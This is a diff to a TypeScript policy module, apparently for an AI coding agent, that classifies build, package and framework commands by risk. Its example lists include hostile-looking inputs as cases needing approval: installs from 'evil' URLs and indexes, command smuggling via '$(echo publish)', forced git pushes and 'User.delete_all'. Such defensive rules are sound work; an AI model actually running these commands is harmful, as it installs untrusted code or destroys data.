@@ -1,13 +1,18 @@
-import { judgeScriptFile, judgeWrappedCommand } from "../dispatcher.ts";
+import { posix } from "node:path";
+import type { CommandClass } from "../../contracts.ts";
+import { changedFinding, judgeScriptFile, judgeWrappedCommand } from "../dispatcher.ts";
 import type { Word } from "../shell-words.ts";
 import type { Call, Level, ToolSpec } from "../spec.ts";
+import { isScratchOrWorkspace, resolvePath, zoneOf } from "../workspace-paths.ts";
 import { taskRisk } from "./tasks.ts";
 
 /** Judges named tasks (`make test`, `npm run build`, `gradle publish`) by their names; `VAR=value` overrides wait. */
 export function tasks(call: Call, what: string, words: readonly Word[] = call.operands): void {
   for (const word of words) {
-    if (word.value === null)
-      return call.find("unknown", `runs a ${what} only known at run time (${word.raw})`);
+    if (word.value === null) {
+      call.find("unknown", `runs a ${what} only known at run time (${word.raw})`);
+      return;
+    }
     if (/^[A-Za-z_][\w.]*=/.test(word.value)) {
       call.find("unknown", `overrides the variable ${word.value.split("=")[0]}, which can change what runs`);
       continue;
@@ -48,7 +53,7 @@ const toolchain: ToolSpec = {
     react-native docusaurus hugo jekyll eleventy gatsby remix solid-start qwik tauri electron jupyter nbconvert sass
     lessc postcss tailwindcss uglifyjs terser cssnano svgo imagemin nodemon tsc-watch playwright ng prisma drizzle-kit
     mkdocs buf cmake meson bazel bazelisk stack cabal concurrently npm-run-all npm-run-all2 run-s run-p mkdirp make-dir
-    shx pm2 xcodebuild pod flutter dart swift mix rails`,
+    shx pm2 xcodebuild pod flutter dart swift mix`,
   class: "workspace-write",
   detail: "builds, tests, lints or formats the workspace",
   anyOption: true,
@@ -60,7 +65,9 @@ const toolchain: ToolSpec = {
     postcss.config.* .mocharc.js karma.conf.js`,
   logic: (call) => {
     const first = call.operands[0]?.value;
-    const risk = first != null && /^[a-z][a-z.:-]*$/.test(first) ? taskRisk(first) : "safe";
+    // `playwright install` and `cypress install` download browsers into their cache: not `make install`.
+    const risk =
+      first != null && first !== "install" && /^[a-z][a-z.:-]*$/.test(first) ? taskRisk(first) : "safe";
     if (typeof risk === "object") call.find(risk.class, `${call.inv.name} ${first} ${risk.detail}`);
     // Runners of other commands: `concurrently "npm:test" "git push"`, `run-s lint test`, `pm2 start x`.
     if (/^(concurrently)$/.test(call.inv.name)) {
@@ -114,9 +121,51 @@ const make: ToolSpec = {
   },
 };
 
+/** Django's `manage.py` commands by what they do; a manage.py the agent changed runs only with a person. */
+const DJANGO: readonly (readonly [RegExp, CommandClass, string])[] = [
+  [
+    /^(test|check|makemigrations|collectstatic|compilemessages|makemessages|runserver|startapp|findstatic|squashmigrations)$/,
+    "workspace-write",
+    "tests, checks or builds the project",
+  ],
+  [
+    /^(showmigrations|diffsettings|inspectdb|sqlmigrate|help|version|show_urls)$/,
+    "read-only",
+    "prints information about the project",
+  ],
+  [
+    /^(migrate|flush|loaddata|createsuperuser|changepassword|sqlflush|createcachetable|clearsessions)$/,
+    "infrastructure",
+    "changes a database",
+  ],
+];
+
+function django(call: Call, file: Word, command: Word | undefined): void {
+  const path = resolvePath(file.value ?? "", call.ctx.cwd);
+  const changed = path === null ? null : changedFinding(call.inv, call.ctx, path, "runs");
+  if (path === null || zoneOf(path, call.ctx.workspace).kind !== "workspace") {
+    call.find("unknown", `runs ${file.raw}, outside the workspace`);
+    return;
+  }
+  if (changed !== null) call.find(changed.class, changed.detail);
+  if (command === undefined) {
+    call.find("read-only", "lists the manage.py commands");
+    return;
+  }
+  if (command.value === null) {
+    call.find("unknown", `runs a manage.py command only known at run time (${command.raw})`);
+    return;
+  }
+  const hit = DJANGO.find(([re]) => re.test(command.value ?? ""));
+  if (hit === undefined) {
+    call.find("unknown", `"${command.value}" is not a manage.py command the policy knows`, true);
+    return;
+  }
+  call.find(hit[1], `manage.py ${command.value} ${hit[2]}`);
+}
+
 const script = (names: string, detail: string, inline: string, loadOptions: string): ToolSpec => ({
   names,
-  class: "workspace-write",
   detail,
   options: `${inline}!unknown ${loadOptions}`,
   stopOptions: true,
@@ -131,18 +180,56 @@ const script = (names: string, detail: string, inline: string, loadOptions: stri
         call.find("unknown", `${o.name} loads ${v.value}, outside the project's dependencies`);
     }
     const ran = call.options.some((o) => o.spec?.raises !== undefined || o.spec?.value === "command");
-    const informational = call.options.some((o) =>
-      /^(-v|--version|-V|-h|--help|--test|--watch)$/.test(o.name),
-    );
+    const informational = call.options.some((o) => /^(-v|--version|-V|-h|--help)$/.test(o.name));
+    const runsTests = call.options.some((o) => /^(--test|--watch)$/.test(o.name));
     const [file] = call.operands;
-    if (file !== undefined && !ran) {
+    if (file?.value != null && !ran && posix.basename(file.value) === "manage.py") {
+      django(call, file, call.operands[1]);
+    } else if (file !== undefined && !ran) {
       for (const f of judgeScriptFile(call.inv, call.ctx, file, `${call.inv.name} runs`))
         call.find(f.class, f.detail, f.overridable);
-    } else if (!ran && !informational)
-      call.find("unknown", `${call.inv.name} without a script reads code from its input`);
+    } else if (!ran && runsTests) call.find("workspace-write", `${call.inv.name} runs the project's tests`);
+    else if (!ran && informational) call.find("read-only", `${call.inv.name} prints its version or usage`);
+    else if (!ran) call.find("unknown", `${call.inv.name} without a script reads code from its input`);
   },
   examples: { allow: [], approve: [] },
 });
+
+/** Deno: tasks by name from deno.json, scripts by path; installs and publishing leave the workspace. */
+const deno: ToolSpec = {
+  names: "deno",
+  default: { class: "unknown", detail: "deno without a subcommand starts a REPL" },
+  options: "-h|--help -V|--version",
+  subcommands: {
+    task: {
+      anyOption: true,
+      loads: "deno.json deno.jsonc package.json",
+      logic: (call) => tasks(call, "deno task", call.operands.slice(0, 1)),
+    },
+    "test fmt lint check bench doc info coverage cache compile add remove outdated types init": {
+      class: "workspace-write",
+      detail: "tests, checks or builds the workspace",
+      anyOption: true,
+    },
+    "run serve": {
+      class: "workspace-write",
+      detail: "runs a workspace script",
+      anyOption: true,
+      operands: "script",
+    },
+    "install uninstall upgrade": {
+      class: "destructive",
+      detail: "installs outside the workspace",
+      anyOption: true,
+    },
+    publish: "package-publish",
+    "eval repl jupyter": { class: "unknown", detail: "runs code the policy cannot see", anyOption: true },
+  },
+  examples: {
+    allow: ["deno task build", "deno test -A", "deno run -A scripts/build.ts"],
+    approve: ["deno task deploy", "deno eval 'Deno.exit()'", "deno install -g x", "deno publish"],
+  },
+};
 
 /** Python modules run with `python -m`: the standard ones a repair uses. */
 const pyModules: ToolSpec = {
@@ -166,15 +253,31 @@ const node = script(
     --conditions= -C= --input-type= --unhandled-rejections= --tsconfig=read --project=read -P=read -T|--transpile-only`,
 );
 
-const python = script(
-  "python python3 pypy pypy3 py",
-  "runs a workspace script",
-  "-c=",
-  "-m=command -u -B -O -OO -E -s -S -I -q -v -V|--version -h|--help -W= -X= -b -d -i!unknown -P",
-);
+const python: ToolSpec = {
+  ...script(
+    "python python3 pypy pypy3 py",
+    "runs a workspace script",
+    "-c=",
+    "-m=command -u -B -O -OO -E -s -S -I -q -v -V|--version -h|--help -W= -X= -b -d -i!unknown -P",
+  ),
+  examples: {
+    allow: [
+      "python manage.py test",
+      "python3 manage.py makemigrations",
+      "python -m pytest -x",
+      "python scripts/build.py",
+    ],
+    approve: [
+      "python manage.py migrate",
+      "python manage.py shell",
+      "python -c 'import os'",
+      "python manage.py evil",
+    ],
+  },
+};
 
 const interpreters = script(
-  "ruby perl php Rscript lua luajit elixir deno java",
+  "ruby perl php Rscript lua luajit elixir java",
   "runs a workspace script",
   "-e|-E|-r|--eval|-R=",
   "-I= -w -W -v|--version -c -n -p -l -a -jar=read -cp|-classpath|--class-path= -D= -Xmx= -Xms= -ea -h|--help",
@@ -193,25 +296,43 @@ function installs(call: Call): void {
   }
 }
 
+/** Options npm-like tools accept after any subcommand that move where they install or run, or what they trust. */
+const where =
+  "--prefix|-C|--cwd|--dir=cwd -g|--global|--location=!destructive --registry=url --userconfig|--globalconfig|--script-shell|--node-options=!unknown";
+
+/** Installs and scripts run in the package directory: one outside the workspace is not the agent's to change. */
+function packageDirectory(call: Call): void {
+  if (call.leaf === "read-only") return;
+  const cwd = call.ctx.cwd;
+  if (cwd === null) call.find("unknown", `${call.path} runs in a directory only known at run time`);
+  else if (!isScratchOrWorkspace(cwd, call.ctx.workspace)) {
+    call.find("destructive", `${call.path} installs or runs in ${cwd}, outside the workspace`);
+  }
+}
+
 const install: Level = {
   class: "workspace-write",
   detail: "installs dependencies under the workspace",
   anyOption: true,
-  options: "-g|--global|--location=!destructive --registry=url",
+  options: where,
   logic: installs,
 };
 
 const scripts: Level = {
   anyOption: true,
+  options: where,
   loads: "package.json",
-  logic: (call) => tasks(call, "package script", call.operands.slice(0, 1)),
+  logic: (call) =>
+    call.operands.length === 0
+      ? call.find("read-only", "lists the package scripts")
+      : tasks(call, "package script", call.operands.slice(0, 1)),
 };
 
 const exec: Level = {
   class: "workspace-write",
   detail: "runs a package's command",
   options:
-    "-p|--package=!unknown -c|--call=shell -y|--yes --no -q|--quiet -w|--workspace= --ws|--workspaces --if-present",
+    "-p|--package=!unknown -c|--call=shell -y|--yes --no -q|--quiet -w|--workspace= --ws|--workspaces --if-present --prefix|-C|--cwd|--dir=cwd",
   operands: "command",
 };
 
@@ -224,8 +345,9 @@ const npmLike = (
   names,
   default: "workspace-write",
   anyOption: true,
-  options: `--prefix|-C|--cwd|--dir=cwd -w|--workspace|--filter|-F= --registry=url --userconfig|--globalconfig|--script-shell|--node-options=!unknown
-    -g|--global!destructive`,
+  options: `${where} -w|--workspace|--filter|-F=`,
+  globalOptions: true,
+  logic: packageDirectory,
   subcommands: {
     "test t tst start stop restart": {
       ...scripts,
@@ -237,7 +359,7 @@ const npmLike = (
       {
         class: "workspace-write",
         anyOption: true,
-        options: "--registry=url",
+        options: where,
       },
     "ls list ll la view info show v explain fund help search bugs docs repo root bin prefix get doctor cache licenses dlx-help store":
       { class: "read-only", anyOption: true },
@@ -268,40 +390,120 @@ const npmLike = (
       "npm i x@npm:evil",
       "npm install -g x",
       'npm "$(echo publish)"',
+      "npm install --prefix /usr/local x",
+      "npm --prefix /opt/app run build",
     ],
   },
 });
 
 const npm = npmLike("npm", {});
 const pnpm: ToolSpec = { ...npmLike("pnpm bun", {}), otherwise: scripts };
+/** `yarn workspace NAME CMD...` and `yarn workspaces foreach [OPTIONS] CMD...` run a yarn command in packages. */
+const yarnAgain = (call: Call, words: readonly Word[]) =>
+  run(call, [{ value: "yarn", raw: "yarn" }, ...words], "yarn");
+
 const yarn: ToolSpec = {
-  ...npmLike("yarn yarnpkg", {}),
+  ...npmLike("yarn yarnpkg", {
+    workspace: {
+      class: "workspace-write",
+      detail: "runs a yarn command in one workspace package",
+      stopOptions: true,
+      logic: (call) => yarnAgain(call, call.operands.slice(1)),
+    },
+    workspaces: {
+      default: "read-only",
+      subcommands: {
+        "list info": { class: "read-only", anyOption: true },
+        foreach: {
+          class: "workspace-write",
+          detail: "runs a yarn command in every workspace package",
+          options: `-A|--all -p|--parallel -t|--topological --topological-dev -v|--verbose -i|--interlaced
+            -R|--recursive -W|--worktree --since= --from= --include= --exclude= -j|--jobs= --no-private`,
+          stopOptions: true,
+          logic: (call) => yarnAgain(call, call.operands),
+        },
+      },
+    },
+    global: {
+      class: "destructive",
+      detail: "installs or removes packages outside the workspace",
+      anyOption: true,
+    },
+    npm: {
+      default: "read-only",
+      anyOption: true,
+      subcommands: {
+        "info audit": { class: "read-only", anyOption: true },
+        publish: "package-publish",
+        "login logout whoami tag": "credentials",
+      },
+    },
+  }),
   otherwise: scripts,
-  examples: { allow: ["yarn test", "yarn lint:fix", "yarn"], approve: ["yarn deploy", "yarn npm publish"] },
+  examples: {
+    allow: [
+      "yarn test",
+      "yarn lint:fix",
+      "yarn",
+      "yarn workspace @acme/api build",
+      "yarn workspaces foreach -A run lint",
+    ],
+    approve: [
+      "yarn deploy",
+      "yarn npm publish",
+      "yarn workspace x npm publish",
+      "yarn workspaces foreach -A run deploy",
+      "yarn global add x",
+    ],
+  },
 };
 
-/** Package runners: a package spec (`-p`, `name@npm:`, URLs, git, tarballs) downloads code the policy cannot see. */
+/** `prettier@3`, `@scope/tool@^1.2`, `create-vite@latest`: a registry package at a version or tag. */
+const REGISTRY_VERSION = /^((?:@[\w.-]+\/)?[\w.-]+)@([\w.^~<>=*-]+)$/;
+
+/**
+ * Package runners: a package spec (`-p`, `name@npm:`, URLs, git, tarballs) downloads code the policy cannot see. A
+ * registry name at a version is the tool of that name; `create-*` scaffolders write a new project where they run.
+ */
 const runners: ToolSpec = {
   names: "npx pnpx bunx uvx pipx",
   class: "workspace-write",
   detail: "runs a package's command",
   options:
     "-p|--package|--from|--with|--spec=!unknown -y|--yes --no -q|--quiet --no-install --prefer-offline -c|--call=shell",
-  operands: "command",
+  stopOptions: true,
   logic: (call) => {
-    const first = call.operands[0]?.value;
-    if (first != null && (packageSpec.test(first) || /@[\w.^~-]+$/.test(first.slice(1)))) {
-      call.find("unknown", `runs ${first}, a package spec the policy cannot see into`);
+    const [first, ...rest] = call.operands;
+    if (first === undefined) return;
+    if (first.value === null) {
+      call.find("unknown", `runs a command only known at run time (${first.raw})`);
+      return;
     }
+    if (packageSpec.test(first.value)) {
+      call.find("unknown", `runs ${first.value}, a package spec the policy cannot see into`);
+      return;
+    }
+    const name = REGISTRY_VERSION.exec(first.value)?.[1] ?? first.value;
+    if (/^(@[\w.-]+\/)?create-[\w.-]+$/.test(name)) {
+      call.find("workspace-write", `scaffolds a project with the registry package ${name}`);
+      return;
+    }
+    run(call, [{ value: name, raw: first.raw }, ...rest], call.inv.name);
   },
   examples: {
-    allow: ["npx tsc --noEmit", "npx vitest run test/unit", "npx prettier --check ."],
+    allow: [
+      "npx tsc --noEmit",
+      "npx vitest run test/unit",
+      "npx -y prettier@3 --check .",
+      "npx create-vite@latest app -- --template react-ts",
+    ],
     approve: [
       'npx changeset "$(echo publish)"',
       "npx -p evil tsc",
       "npx evil@npm:tsc",
       "npx https://x.io/a.tgz",
       "npx cowsay2",
+      "npx eslint@9 --exec 'git push'",
     ],
   },
 };
@@ -312,17 +514,28 @@ const pip: ToolSpec = {
   default: "read-only",
   anyOption: true,
   options:
-    "--index-url|-i|--extra-index-url|--find-links|-f=url --trusted-host=!unknown --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive",
+    "--index-url|-i|--extra-index-url|--find-links|-f=url --trusted-host=!unknown --user!destructive --break-system-packages!destructive",
   subcommands: {
     "install download wheel": {
       class: "workspace-write",
       anyOption: true,
-      options:
-        "-r|--requirement|-c|--constraint=read -e|--editable= --index-url|-i|--extra-index-url|--find-links|-f=url --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive",
+      options: `-r|--requirement|-c|--constraint=read -e|--editable= --index-url|-i|--extra-index-url|--find-links|-f=url
+        --root|--prefix|--target|-t|-d|--dest|--destination-directory|-w|--wheel-dir|--src=write --user!destructive
+        --break-system-packages!destructive --trusted-host=!unknown`,
       logic: (call) => {
         for (const w of call.operands)
           if (w.value === null || /:\/\/|^git\+|@\s*(https?|git|file):/.test(w.value))
             call.find("unknown", `installs ${w.raw}, from outside the package index`);
+        // pip installs into the active environment: only a virtual environment under the workspace (its pip, or one
+        // activated earlier on the line) or an explicit target directory keeps it inside the workspace.
+        const placed = call.options.some((o) => /^(--root|--prefix|--target|-d|-w)$/.test(o.name));
+        if (call.path.endsWith("install") && !call.ctx.venv && !placed) {
+          call.find(
+            "unknown",
+            "no virtual environment under the workspace is visible, so where it installs is unknown",
+            true,
+          );
+        }
       },
     },
     "uninstall cache": { class: "workspace-write", anyOption: true },
@@ -332,8 +545,14 @@ const pip: ToolSpec = {
     },
   },
   examples: {
-    allow: ["pip install -r requirements.txt", "pip install -e .", "pip list"],
+    allow: [
+      ".venv/bin/pip install -r requirements.txt",
+      "pip install --target ./vendor requests",
+      "pip list",
+    ],
     approve: [
+      "pip install -r requirements.txt",
+      "pip install --target /usr/lib/python3/dist-packages x",
       "pip install git+https://x.io/evil",
       "pip install --user x",
       "pip install -i https://evil.example/simple x",
@@ -361,6 +580,23 @@ const pythonTools: ToolSpec = {
     },
     "publish upload release": "package-publish",
     "config auth login token keyring": "credentials",
+    tool: {
+      default: "read-only",
+      subcommands: {
+        "list dir": { class: "read-only", anyOption: true },
+        "install uninstall upgrade update-shell": {
+          class: "destructive",
+          detail: "installs tools outside the workspace",
+          anyOption: true,
+        },
+        run: {
+          class: "workspace-write",
+          detail: "runs a package's command",
+          stopOptions: true,
+          operands: "command",
+        },
+      },
+    },
     "-e -r -p": "workspace-write",
   },
   examples: {
@@ -412,11 +648,12 @@ const go: ToolSpec = {
           call.find("unknown", "go env -w changes the Go configuration");
       },
     },
-    "install generate": {
-      class: "unknown",
-      detail: "runs commands named in source files or installs outside the workspace",
+    install: {
+      class: "destructive",
+      detail: "installs binaries outside the workspace (GOBIN)",
       anyOption: true,
     },
+    generate: { class: "unknown", detail: "runs commands named in source files", anyOption: true },
   },
   examples: {
     allow: ["go test ./...", "go vet ./...", "go build -o bin/app ./cmd/app"],
@@ -424,15 +661,20 @@ const go: ToolSpec = {
   },
 };
 
+/** Maven and Gradle install a build into the local repository (~/.m2), a cache of their own like npm's. */
+const LOCAL_REPOSITORY = /^(install|publishToMavenLocal)$/;
+
 const jvm: ToolSpec = {
   names:
-    "gradle gradlew mvn mvnw ant sbt lein dotnet gem bundle bundler composer just task mage invoke inv rake gulp grunt nx turbo lerna rush changeset changesets",
+    "gradle gradlew mvn mvnw ant sbt lein just task mage invoke inv rake gulp grunt turbo lerna rush changeset changesets",
   default: "workspace-write",
   anyOption: true,
-  options:
-    "-p|--project-dir|-C|--directory|-d|--dir|--cwd=cwd -f|--file|-b|--build-file|--justfile|--taskfile|--gulpfile|--gruntfile=read -I|--init-script=!unknown -D|-P|-s|--settings|-t|-T=",
+  options: `-p|--project-dir|-C|--directory|-d|--dir|--cwd=cwd -f|--file|-b|--build-file|--justfile|--taskfile|--gulpfile|--gruntfile=read
+    -I|--init-script=!unknown -D|-P|-s|--settings|-t|-T|--tests|-x|--exclude-task|-pl|--projects|-rf|--resume-from|--filter|--scope=
+    -am|--also-make -amd|--also-make-dependents`,
+  globalOptions: true,
   loads:
-    "build.gradle build.gradle.kts settings.gradle settings.gradle.kts pom.xml Justfile justfile Taskfile.yml Rakefile gulpfile.js Gruntfile.js build.xml Gemfile",
+    "build.gradle build.gradle.kts settings.gradle settings.gradle.kts pom.xml Justfile justfile Taskfile.yml Rakefile gulpfile.js Gruntfile.js build.xml",
   subcommands: {
     "exec x run-script dlx": {
       class: "workspace-write",
@@ -443,24 +685,169 @@ const jvm: ToolSpec = {
     "publish release deploy push upload yank owner": "package-publish",
     "login logout token": "credentials",
   },
-  otherwise: { anyOption: true, logic: (call) => tasks(call, "task") },
+  otherwise: {
+    anyOption: true,
+    logic: (call) => {
+      const maven = /^(mvnw?|gradlew?)$/.test(call.inv.name);
+      const local = call.operands.filter((w) => maven && LOCAL_REPOSITORY.test(w.value ?? ""));
+      if (local.length > 0)
+        call.find("workspace-write", "installs the build into the local Maven repository");
+      if (call.operands.some((w) => /^release:(prepare|perform|branch|rollback)$/.test(w.value ?? ""))) {
+        call.find("vcs-remote", "the release plugin commits, tags and pushes to the source repository");
+      }
+      tasks(
+        call,
+        "task",
+        call.operands.filter((w) => !local.includes(w)),
+      );
+    },
+  },
   examples: {
     allow: [
       "gradle test",
       "mvn -q verify",
-      "bundle exec rspec",
-      "nx run api:test",
+      "./mvnw clean install -DskipTests",
+      "./gradlew :app:test --tests 'com.acme.*'",
+      "mvn -pl api -am test",
       "turbo run build",
       "lerna run test",
     ],
     approve: [
       "gradle publish",
       "mvn deploy",
-      'bundle "$(printf exec)" git push --force',
       "changeset publish",
       "lerna publish",
-      "bundle exec git push",
+      "mvn release:prepare",
+      "gradle test --init-script x.gradle",
     ],
+  },
+};
+
+/** Bundler and Composer: installs from the lockfile stay in the project; `exec` runs a command; global installs leave it. */
+const bundler: ToolSpec = {
+  names: "bundle bundler composer",
+  default: { class: "workspace-write", detail: "installs the project's dependencies" },
+  anyOption: true,
+  options: "--gemfile=read -d|--working-dir=cwd --system!destructive",
+  loads: "Gemfile composer.json",
+  subcommands: {
+    "install i update u lock outdated check show list info validate dump-autoload dumpautoload require remove add init audit licenses depends why why-not clean platform binstubs package pristine diagnose status search suggests fund cache":
+      {
+        class: "workspace-write",
+        detail: "installs or inspects the project's dependencies",
+        anyOption: true,
+        options: "--system!destructive --global!destructive",
+      },
+    "exec x": { class: "workspace-write", detail: "runs a command", stopOptions: true, operands: "command" },
+    "run-script run": {
+      anyOption: true,
+      logic: (call) => tasks(call, "composer script", call.operands.slice(0, 1)),
+    },
+    "global gem": { class: "destructive", detail: "installs outside the workspace", anyOption: true },
+    "config create-project self-update selfupdate": {
+      class: "unknown",
+      detail: "changes the tool's configuration or installs a project from elsewhere",
+      anyOption: true,
+    },
+    "publish release push login logout": "package-publish",
+  },
+  examples: {
+    allow: ["bundle install", "bundle exec rspec", "composer install", "composer run-script test"],
+    approve: [
+      'bundle "$(printf exec)" git push --force',
+      "bundle exec git push",
+      "composer global require x",
+      "composer run-script deploy",
+    ],
+  },
+};
+
+const gem: ToolSpec = {
+  names: "gem",
+  default: "read-only",
+  anyOption: true,
+  subcommands: {
+    "list search info specification contents environment help which dependency query outdated": {
+      class: "read-only",
+      anyOption: true,
+    },
+    build: { class: "workspace-write", detail: "builds a gem in the workspace", anyOption: true },
+    "install update uninstall cleanup pristine": {
+      class: "destructive",
+      detail: "changes gems outside the workspace",
+      anyOption: true,
+    },
+    "push yank owner": "package-publish",
+    "signin signout": "credentials",
+  },
+  examples: { allow: ["gem list", "gem build x.gemspec"], approve: ["gem install rails", "gem push x.gem"] },
+};
+
+const dotnet: ToolSpec = {
+  names: "dotnet",
+  default: "read-only",
+  anyOption: true,
+  options: "--info --version --list-sdks --list-runtimes",
+  subcommands: {
+    // `dotnet publish` writes the application to a folder (`-o`); `dotnet nuget push` is the one that publishes.
+    "build test run restore clean format publish pack new add remove list sln watch msbuild vstest build-server dev-certs":
+      {
+        class: "workspace-write",
+        detail: "builds, tests or packs the project",
+        anyOption: true,
+        options: "-o|--output=write",
+      },
+    nuget: {
+      default: "read-only",
+      anyOption: true,
+      subcommands: {
+        "push delete": { class: "package-publish", anyOption: true, options: "-k|--api-key|-s|--source=" },
+        "locals verify sign trust why": { class: "workspace-write", anyOption: true },
+      },
+    },
+    "tool workload": {
+      class: "destructive",
+      detail: "installs tools outside the workspace",
+      anyOption: true,
+    },
+    "user-secrets": "credentials",
+  },
+  examples: {
+    allow: ["dotnet test", "dotnet publish -c Release -o out", "dotnet build"],
+    approve: ["dotnet nuget push x.nupkg", "dotnet tool install -g x", "dotnet publish -o /etc/x"],
+  },
+};
+
+/** Nx: targets by name (`run`, `run-many -t`, `affected -t`, `nx <target> <project>`). */
+const nxTargets: Level = {
+  anyOption: true,
+  options: "-t|--target|--targets|-p|--projects|--exclude|--base|--head|--parallel|-c|--configuration=",
+  logic: (call) => {
+    const targets = call.options
+      .filter((o) => o.name === "-t")
+      .flatMap((o) => (o.value?.value ?? "").split(",").map((v) => ({ value: v, raw: v })));
+    tasks(call, "nx target", [...targets, ...call.operands]);
+  },
+};
+
+const nx: ToolSpec = {
+  names: "nx",
+  default: { class: "read-only", detail: "prints nx usage" },
+  anyOption: true,
+  subcommands: {
+    "run run-many affected": nxTargets,
+    "graph show list report daemon reset format:check": { class: "read-only", anyOption: true },
+    "format format:write migrate add generate g init repair sync": {
+      class: "workspace-write",
+      anyOption: true,
+    },
+    release: "package-publish",
+    "connect login logout": "credentials",
+  },
+  otherwise: { anyOption: true, logic: (call) => tasks(call, "nx target", call.operands.slice(0, 1)) },
+  examples: {
+    allow: ["nx run api:test", "npx nx run-many -t test lint", "nx affected -t build", "nx build api"],
+    approve: ["nx run-many -t deploy", "nx run api:deploy", "nx release"],
   },
 };
 
@@ -486,8 +873,52 @@ const rustup: ToolSpec = {
   examples: { allow: ["rustup show"], approve: [] },
 };
 
+/**
+ * Rails commands: tests, generators and asset builds stay in the workspace; database tasks change a database;
+ * credentials print secrets; consoles and runners evaluate code the policy cannot see.
+ */
+const rails: ToolSpec = {
+  names: "rails",
+  default: { class: "read-only", detail: "prints rails usage" },
+  anyOption: true,
+  options: "-e|--environment=",
+  subcommands: {
+    "test t test:all test:system test:models test:controllers generate g destroy d new assets:precompile assets:clean assets:clobber zeitwerk:check tmp:clear log:clear db:test:prepare":
+      {
+        class: "workspace-write",
+        detail: "tests, generates code or builds assets in the workspace",
+        anyOption: true,
+      },
+    "routes about stats notes middleware initializers version -v --version -h --help db:version db:migrate:status secret":
+      { class: "read-only", detail: "prints information about the application", anyOption: true },
+    "db:migrate db:rollback db:seed db:setup db:reset db:drop db:create db:schema:load db:prepare db:migrate:redo db:migrate:up db:migrate:down db:purge db:truncate_all":
+      { class: "infrastructure", detail: "changes a database", anyOption: true },
+    "credentials:show credentials:edit encrypted:show encrypted:edit": {
+      class: "credentials",
+      detail: "prints or changes the application's secrets",
+      anyOption: true,
+    },
+    "console c runner r dbconsole db server s": {
+      class: "unknown",
+      detail: "evaluates code or opens a database session the policy cannot see",
+      anyOption: true,
+    },
+  },
+  examples: {
+    allow: ["rails test", "bin/rails test test/models/user_test.rb", "rails routes", "rails g model User"],
+    approve: [
+      "bin/rails db:migrate",
+      "bin/rails console",
+      "rails credentials:show",
+      "rails runner 'User.delete_all'",
+    ],
+  },
+};
+
 export const toolchainSpecs: readonly ToolSpec[] = [
   toolchain,
+  rails,
+  deno,
   make,
   node,
   python,
@@ -502,14 +933,33 @@ export const toolchainSpecs: readonly ToolSpec[] = [
   cargo,
   go,
   jvm,
+  bundler,
+  gem,
+  dotnet,
+  nx,
   releases,
   rustup,
   pyModules,
   {
-    names: "nix-shell script",
+    // nix-shell evaluates shell.nix (its shellHook runs anything) before `--run`.
+    names: "nix-shell",
     class: "unknown",
     detail: "starts a shell the policy cannot see into",
     anyOption: true,
-    examples: { allow: [], approve: ["nix-shell"] },
+    examples: { allow: [], approve: ["nix-shell", "nix-shell --run 'npm test'"] },
+  },
+  {
+    names: "script",
+    options: `-c|--command=shell -q|--quiet -a|--append -f|--flush -e|--return -t|--timing= -T|--log-timing=write
+      -I|--log-in|-O|--log-out|-B|--log-io=write -E|--echo= -m|--logging-format=`,
+    operands: "write",
+    logic: (call) => {
+      if (!call.options.some((o) => o.name === "-c"))
+        call.find("unknown", "script starts an interactive shell");
+    },
+    examples: {
+      allow: ["script -qc 'npm test' /dev/null"],
+      approve: ["script", "script -qc 'git push' /dev/null"],
+    },
   },
 ];
